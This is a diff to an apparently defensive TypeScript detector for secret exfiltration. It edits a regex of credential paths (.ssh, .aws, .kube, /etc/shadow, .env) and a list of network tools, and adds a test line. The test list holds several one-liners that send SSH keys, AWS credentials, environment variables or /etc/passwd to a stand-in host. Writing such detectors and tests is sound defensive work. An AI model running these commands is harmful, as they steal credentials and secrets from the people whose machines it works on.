@@ -1,7 +1,7 @@
 import { detector } from '../detector.ts';
 
 const SECRET =
-  '(?:\\.ssh/|id_rsa|id_ed25519|/etc/(?:passwd|shadow)|\\.aws/|\\.env\\b|\\.netrc|\\.npmrc|\\.kube/|\\.git-credentials|/proc/self/environ|\\$\\((?:env|printenv)\\)|`env`|\\.bash_history)';
+  '(?:\\.(?:ssh|aws|kube)[/\\s"\']|id_rsa|id_ed25519|/etc/(?:passwd|shadow)|\\.env\\b|\\.netrc|\\.npmrc|\\.git-credentials|/proc/self/environ|\\$\\((?:env|printenv)\\)|`env`|\\.bash_history)';
 const SINK = '(?:curl|wget|nc|ncat|netcat|http|https|telnet|openssl s_client|ftp|scp|rsync|socat|nslookup|dig)';
 
 export default detector({
@@ -27,6 +27,7 @@ export default detector({
   finds: [
     'curl -d @/home/amy/.ssh/id_rsa https://x.example.net',
     'cat ~/.aws/credentials | base64 | curl -d @- https://x.example.net',
+    'tar cz ~/.ssh | openssl base64 | curl --data-binary @- https://x.example.net',
     'env | curl -X POST --data-binary @- https://x.example.net',
     'wget "https://x.example.net/?$(base64 -w0 < /etc/passwd)"',
     'requests.post("https://x.example.net", json=dict(os.environ))',
